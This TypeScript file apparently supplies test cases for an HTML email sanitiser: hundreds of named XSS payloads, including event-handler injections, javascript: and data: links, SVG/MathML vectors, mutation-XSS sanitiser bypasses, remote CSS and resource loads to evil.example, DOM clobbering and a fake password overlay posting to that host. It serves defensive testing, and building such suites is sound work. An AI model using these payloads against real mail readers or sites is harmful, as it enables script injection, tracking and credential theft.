/** More ways to attack the reader of an HTML message, made from tables: events, styles, loads, addresses, mutations. */

const evil = 'https://evil.example'
type Attacks = Record<string, string>

const named = (kind: string, list: readonly string[]): Attacks =>
  Object.fromEntries(list.map((html, i) => [`${kind} ${i + 1}`, html]))

const events =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick dragend dragenter durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mousemove mouseover mousewheel pagehide pageshow paste pause play playing pointerdown pointerenter pointermove pointerover pointerrawupdate popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeking select selectionchange selectstart show slotchange start storage submit suspend timeupdate toggle touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitanimationstart webkittransitionend wheel'.split(
    ' ',
  )

/** Each event on an element that would fire it, if anything did. */
const handlers: Attacks = Object.fromEntries(
  events.map((event) => [
    `on${event}`,
    `<style>@keyframes k{}</style><p on${event}="pwned()" style="animation:k .1s 3;transition:all .1s" tabindex=1 autofocus>x</p><img src=x on${event}=pwned()><body on${event}=pwned()><video on${event}=pwned()><source src=x></video><svg on${event}=pwned()><animate on${event}=pwned() attributeName=x dur=.1s></svg><details open on${event}=pwned()><input on${event}=pwned() autofocus><marquee on${event}=pwned()>x</marquee>`,
  ]),
)

/** Every property that takes a picture, a file or a path. */
const properties =
  'background background-image border-image border-image-source list-style list-style-image cursor content mask mask-image mask-border mask-border-source -webkit-mask -webkit-mask-image -webkit-mask-box-image -webkit-border-image -webkit-box-reflect shape-outside clip-path filter backdrop-filter offset-path behavior -moz-binding src marker marker-start fill stroke symbols'.split(
    ' ',
  )
const addresses = [
  `url(${evil}/p)`,
  `url("${evil}/p")`,
  `url('//evil.example/p')`,
  `image-set(url(${evil}/p) 1x, "${evil}/q" 2x)`,
  `-webkit-image-set(url(${evil}/p) 1x)`,
  `-webkit-cross-fade(url(${evil}/p), url(${evil}/q), 50%)`,
  `image("${evil}/p")`,
  `src("${evil}/p")`,
  `url(${evil}/f.svg#x)`,
]
const styles: Attacks = Object.fromEntries(
  properties.map((property) => [
    `css ${property}`,
    `${addresses.map((address) => `<div style="${property}:${address.replaceAll('"', '&quot;')}">x</div>`).join('')}<style>${addresses.map((address, i) => `.c${i},.c${i}::before,.c${i}::marker,.c${i}:hover{${property}:${address};content:${address}}`).join('')}</style>${addresses.map((_address, i) => `<ul class="c${i}"><li class="c${i}">y</ul>`).join('')}`,
  ]),
)

const sheets = named('style sheet', [
  `<style>@import "${evil}/a.css";@import url(${evil}/b.css) screen;</style>`,
  `<style>@import/**/url(//evil.example/c.css);</style>`,
  `<style>@\\69mport "${evil}/d.css";</style>`,
  `<style>@charset "x";@import'${evil}/e.css';</style>`,
  `<style>@font-face{font-family:a;src:local(x),url(${evil}/f.woff2) format("woff2")}*{font-family:a}</style>x`,
  `<style>@font-face{font-family:b;src:url(data:font/woff2;base64,AAAA),url(//evil.example/g)}*{font-family:b}</style>x`,
  `<style>:root{--x:url(${evil}/var)}p{background:var(--x)}</style><p>x</p>`,
  `<style>p{background:u\\72l(${evil}/h)}q{background:\\75\\72\\6c(${evil}/i)}</style><p>x<q>y</q></p>`,
  `<style>p{background:url(${evil}/\\j)}</style><p>x</p>`,
  `<style>@media screen{p{background:url(${evil}/k)}}@supports(display:grid){p{list-style:url(${evil}/l)}}</style><p>x</p>`,
  `<style>@container (min-width:1px){p{background:url(${evil}/m)}}@layer a{p{cursor:url(${evil}/n),auto}}</style><p>x</p>`,
  `<style>@property --y{syntax:"<url>";inherits:false;initial-value:url(${evil}/o)}p{background:var(--y)}</style><p>x</p>`,
  `<style>@namespace url(${evil}/ns);@document url(${evil}){p{color:red}}</style><p>x</p>`,
  `<style>@page{background:url(${evil}/page)}@counter-style c{system:cyclic;symbols:url(${evil}/cs)}li{list-style:c}</style><ul><li>x</ul>`,
  `<style>input[value^=a]{background:url(${evil}/leak-a)}a:visited{background:url(${evil}/visited)}</style><a href="https://x.example">x</a>`,
  `<style>@scope(p){:scope{background:url(${evil}/scope)}}p{&:is(p){background:url(${evil}/nest)}}</style><p>x</p>`,
  `<style>::selection{background:url(${evil}/sel)}::first-line{background:url(${evil}/fl)}::highlight(x){background:url(${evil}/hl)}</style>x`,
  `<style>@view-transition{navigation:auto}@starting-style{p{background:url(${evil}/ss)}}</style><p>x</p>`,
  `<style media="not all" onload=pwned()></style><style type="text/less">@import "${evil}/less";</style>`,
  `<style><!--</style><style>p{background:url(${evil}/cdo)}--></style><p>x</p>`,
  `<style>p::before{content:"</style><img src=x onerror=pwned()>"}</style><p>x</p>`,
  `<style>*{background:url("data:,remote-0-");background:url(${evil}/mark)}</style><p style="background:url(data:,remote-1-),url(${evil}/mark2)">x</p><img src="//evil.example/own.png">`,
])

const resource = (attribute: string, tags: string): Attacks =>
  Object.fromEntries(
    tags.split(' ').map((tag) => [`${tag} ${attribute}`, `<${tag} ${attribute}="${evil}/${tag}-${attribute}"></${tag}>x`]),
  )

const loads: Attacks = {
  ...resource('src', 'img image input embed iframe frame script video audio source track bgsound xml layer ilayer portal fencedframe amp-img'),
  ...resource('srcset', 'img source'),
  ...resource('data', 'object'),
  ...resource('href', 'link base image use feimage script'),
  ...resource('poster', 'video audio'),
  ...resource('background', 'body table td th tr tbody div'),
  ...resource('lowsrc', 'img'),
  ...resource('dynsrc', 'img'),
  ...resource('longdesc', 'img iframe'),
  ...resource('usemap', 'img object'),
  ...resource('classid', 'object'),
  ...resource('codebase', 'object applet'),
  ...resource('archive', 'object applet'),
  ...resource('code', 'applet'),
  ...resource('action', 'form'),
  ...resource('formaction', 'button input'),
  ...resource('manifest', 'html'),
  ...resource('profile', 'head'),
  ...resource('cite', 'blockquote q del ins'),
  ...resource('icon', 'menuitem command'),
  ...resource('ping', 'a area'),
  ...resource('attributionsrc', 'a img script'),
  ...resource('imagesrcset', 'link'),
}

const relations: Attacks = Object.fromEntries(
  'stylesheet icon preload prefetch preconnect dns-prefetch prerender modulepreload manifest import alternate next pingback search serviceworker subresource expect compression-dictionary mask-icon apple-touch-icon apple-touch-startup-image shortcut'
    .split(' ')
    .map((rel) => [
      `link ${rel}`,
      `<link rel="${rel}" href="${evil}/${rel}" as="image" type="text/css" imagesrcset="${evil}/${rel} 1x"><link rel="${rel.toUpperCase()}" href=//evil.example/${rel}>`,
    ]),
)

const metas = named('meta', [
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<meta http-equiv="Refresh" content="0; URL='javascript:pwned()'">`,
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>parent.pwned()</script>">',
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; report-uri ${evil}/r">`,
  `<meta http-equiv="Link" content="<${evil}/x>; rel=preload; as=image">`,
  `<meta http-equiv="delegate-ch" content="sec-ch-ua ${evil}">`,
  `<meta http-equiv="origin-trial" content="AAAA"><meta name=referrer content=unsafe-url>`,
  `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://prefetch.evil.example">x</a>`,
  `<noscript><meta http-equiv=refresh content="0;url=${evil}/n"></noscript>`,
  `<base href="${evil}/"><a href="x">x</a><img src="y.png"><form action="z"><button>v</button></form>`,
  `<base target="_top"><base href="javascript:/a/-pwned()/////"><a href="#">x</a>`,
])

const schemes = named('link', [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  '\u0001javascript:pwned()',
  'java\nscript:pwned()',
  'java&Tab;script:pwned()',
  'java&NewLine;script:pwned()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwned()',
  'javascript&colon;pwned()',
  'javascript&#58;pwned()',
  'javascript://%0apwned()',
  'javascript:/*--></title></style></textarea></script>*/pwned()',
  'vbscript:pwned()',
  'livescript:pwned()',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example/',
  'about:blank#javascript:pwned()',
  'file:///etc/passwd',
  'chrome://settings',
  'ms-msdt:/id x',
  'intent://evil.example#Intent;scheme=https;end',
  'jar:https://evil.example!/x',
  'feed:javascript:pwned()',
  'x-javascript:pwned()',
  'mailto:a@b.example?attach=/etc/passwd&body=<script>pwned()</script>',
].map((address) => `<a href="${address}">x</a><area href="${address}"><svg><a xlink:href="${address}"><text>x</text></a></svg><math href="${address}">x</math><form action="${address}"><button formaction="${address}">x</button></form><iframe src="${address}"></iframe><img src="${address}"><object data="${address}"></object><embed src="${address}">`))

const vectors = named('svg and mathml', [
  '<svg><script href="data:,pwned()"></script></svg>',
  `<svg><script xlink:href="${evil}/s.js"></script></svg>`,
  '<svg><set attributeName="onload" to="pwned()"/></svg>',
  '<svg><a id=a><text>x</text></a><animate href="#a" attributeName="href" values="javascript:pwned()" begin="0s" fill="freeze"/></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwned()</handler></svg>',
  `<svg><image href="${evil}/i.png"/><image xlink:href="${evil}/i2.png"/><feImage href="${evil}/fe.png"/></svg>`,
  `<svg><use href="${evil}/u.svg#x"/><use xlink:href="//evil.example/u2.svg#x"/></svg>`,
  `<svg><style>@import "${evil}/svg.css";circle{fill:url(${evil}/g.svg#g)}</style><circle r=1 /></svg>`,
  `<svg><defs><pattern id=p><image href="${evil}/pat.png"/></pattern></defs><rect fill="url(#p)" width=10 height=10 /></svg>`,
  `<svg><rect filter="url(${evil}/f.svg#f)" mask="url(${evil}/m.svg#m)" clip-path="url(${evil}/c.svg#c)" cursor="url(${evil}/cur.svg#c)" /></svg>`,
  `<svg><text><textPath href="${evil}/tp.svg#t">x</textPath></text><tref xlink:href="${evil}/t.svg#t"/></svg>`,
  '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="pwned()"><iframe srcdoc="<script>parent.parent.pwned()</script>"></iframe></body></foreignObject></svg>',
  '<svg><desc><img src=x onerror=pwned()></desc><title><img src=x onerror=pwned()></title></svg>',
  '<svg><animatetransform onbegin=pwned()><animatemotion onbegin=pwned()><discard onbegin=pwned()>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<svg><p><style><g title="</style><img src onerror=pwned()>">',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#x"/><g id="x" onload="pwned()"/></svg>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:pwned()">x</maction></math>',
  '<math href="javascript:pwned()">x</math><math><mi xlink:href="javascript:pwned()">x</mi></math>',
  `<math><mglyph src="${evil}/g.png"><semantics><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></semantics></math>`,
  '<math><annotation-xml encoding="application/xhtml+xml"><script xmlns="http://www.w3.org/1999/xhtml">pwned()</script></annotation-xml></math>',
])

/** What bypassed sanitisers once: text that becomes an element when it is written and read again. */
const mutations = named('mutation', [
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=pwned()>"></style></h1>',
  '<svg><foreignObject><math><mi></p><style><!--</style><img src onerror=pwned()>--></style></math></foreignObject></svg>',
  '<math><mi></p><style><!--</style><img title="--&gt;<img src onerror=pwned()>">',
  '<svg><mtext><table><mglyph><style><math><img src onerror=pwned()></style></table></mtext></svg>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=pwned()></style>',
  '<noembed><img title="</noembed><img src onerror=pwned()>"></noembed>',
  '<noframes><style></noframes><img src onerror=pwned()></style></noframes>',
  '<xmp><svg><b><style><b title="</style></xmp><img src onerror=pwned()>">',
  '<textarea><img title="</textarea><img src onerror=pwned()>"></textarea>',
  '<title><a title="</title><img src onerror=pwned()>"></title>',
  '<iframe><img title="</iframe><img src onerror=pwned()>"></iframe>',
  '<plaintext><img src onerror=pwned()>',
  '<template><s><template><s><img src=x onerror=pwned()>@</s></template></s></template>',
  '<template shadowrootmode=open><img src=x onerror=pwned()><slot></slot></template>',
  '<div><template shadowrootmode=closed><style>@import "https://evil.example/shadow.css"</style><script>pwned()</script></template></div>',
  '<select><iframe></select><img src=x onerror=pwned()></iframe></select>',
  '<select><style></select><img src=x onerror=pwned()></style>',
  '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src onerror=pwned()>"></svg></caption></table>',
  '<!--><img src=x onerror=pwned()>-->',
  '<!---><img src=x onerror=pwned()>-->',
  '<!--!><img src=x onerror=pwned()>--!>',
  '<!-- --!><img src=x onerror=pwned()> -->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<svg><![CDATA[</svg><img src=x onerror=pwned()>]]>',
  '<?xml version="1.0"?><img src=x onerror=pwned()>',
  '<!DOCTYPE html [<!ENTITY x "<script>pwned()</script>">]>&x;',
  '<a title="&lt;/a>&lt;img src onerror=pwned()>">x</a>',
  '<p id="</p><img src=x onerror=pwned()>">x</p>',
  '<b title=`<img src=x onerror=pwned()>`>x</b>',
  '<image src=x onerror=pwned()><isindex action=javascript:pwned() type=image>',
  '<keygen autofocus onfocus=pwned()><listing>&lt;img src=x onerror=pwned()&gt;</listing>',
  '<dialog open onclose=pwned()><form method=dialog><button autofocus>x</button></form></dialog>',
  '<style><style/><img src=x onerror=pwned()>',
  '<script><!--<script></script><img src=x onerror=pwned()>--></script>',
  '<script/x>pwned()</script><script\u000cdefer>pwned()</script>',
  '<SCRIPT>pwned()</SCRIPT><sCrIpT src="data:,pwned()"></sCrIpT>',
  '<<script>pwned();//<</script><scr<script>ipt>pwned()</scr</script>ipt>',
  '<img src="x` `<script>pwned()</script>"` `>',
  '<img """><script>pwned()</script>">',
  '<img/src/onerror=pwned()><img\tsrc=x\nonerror\u000c=\u000cpwned()>',
  '<x/onclick=pwned() contenteditable autofocus onfocus=pwned()>x',
  `${'<b>'.repeat(2000)}<img src=x onerror=pwned()>`,
  `${'<svg><desc>'.repeat(300)}<img src=x onerror=pwned()>`,
  `${'<table><tr><td>'.repeat(200)}<style><!--</style><img src=x onerror=pwned()>-->`,
])

const frames = named('frame', [
  '<iframe srcdoc="&lt;script&gt;parent.parent.pwned()&lt;/script&gt;"></iframe>',
  `<iframe src="${evil}/" onload=pwned()></iframe><frameset><frame src="${evil}/f"></frameset>`,
  '<iframe src="data:text/html,<script>top.pwned()</script>" sandbox="allow-scripts allow-top-navigation"></iframe>',
  '<iframe name="x" src="about:blank"></iframe><a href="javascript:pwned()" target="x">x</a>',
  `<object type="text/html" data="${evil}/"></object><embed type="text/html" src="${evil}/">`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg=="></object>`,
  `<a href="${evil}/" target="_top" id=t>x</a><a href="${evil}/" target="_parent">y</a><a href="/mail/inbox" target="_self">z</a>`,
  `<form action="${evil}/" target="_top" id=f><input name=password></form><input form=f type=submit value=go>`,
  `<form action="/auth/logout" method=post><button>x</button></form><form action="/mail/report" method=post></form>`,
  '<img src="/auth/session"><img src="/mail/image?u=https://evil.example/x&e=1&s=x"><img src="/jmap/session">',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/p"]}],"prerender":[{"urls":["https://evil.example/q"]}]}</script>',
  '<script type=module>import "https://evil.example/m.js"</script><script nomodule>pwned()</script>',
  '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
  '<div popover=auto id=p>x</div><button popovertarget=p popovertargetaction=show>y</button><button commandfor=p command=show-popover>z</button>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Votre session a expiré</h1><form action="https://evil.example/"><input type=password></form></div>',
  '<div style="position:absolute;left:-100000px;top:-100000px;width:300000px;height:300000px">x</div>',
  '<div style="height:100000000px">x</div><table width=10000000><tr><td>x</table>',
])

const clobbers = named('clobber', [
  '<form id=attributes><input name=attributes><input name=nodeName><input name=parentNode></form><img src=x onerror=pwned()>',
  '<form><input name=childNodes><input name=firstChild><input name=removeChild><img src=x onerror=pwned()></form>',
  '<form name=document><img name=body><input name=querySelectorAll></form>',
  '<a id=root></a><a id=root name=querySelectorAll href="https://evil.example">x</a>',
  '<img name=parent><img name=postMessage><img name=addEventListener><img name=URL><img name=Number>',
  '<iframe name=parent></iframe><object name=parent></object><embed name=parent>',
  '<div id=message><img src=x onerror=pwned()></div><div id=reader>x</div><main id=root>x</main>',
  '<form id=documentElement><input name=className><input name=style></form>',
  '<a id=ResizeObserver></a><a id=Element></a><a id=history></a><a id=location href="https://evil.example">x</a>',
])

/** By name; `pwned()` is what a script would call if it ran. */
export const moreAttacks: Readonly<Attacks> = {
  ...handlers,
  ...styles,
  ...sheets,
  ...loads,
  ...relations,
  ...metas,
  ...schemes,
  ...vectors,
  ...mutations,
  ...frames,
  ...clobbers,
}
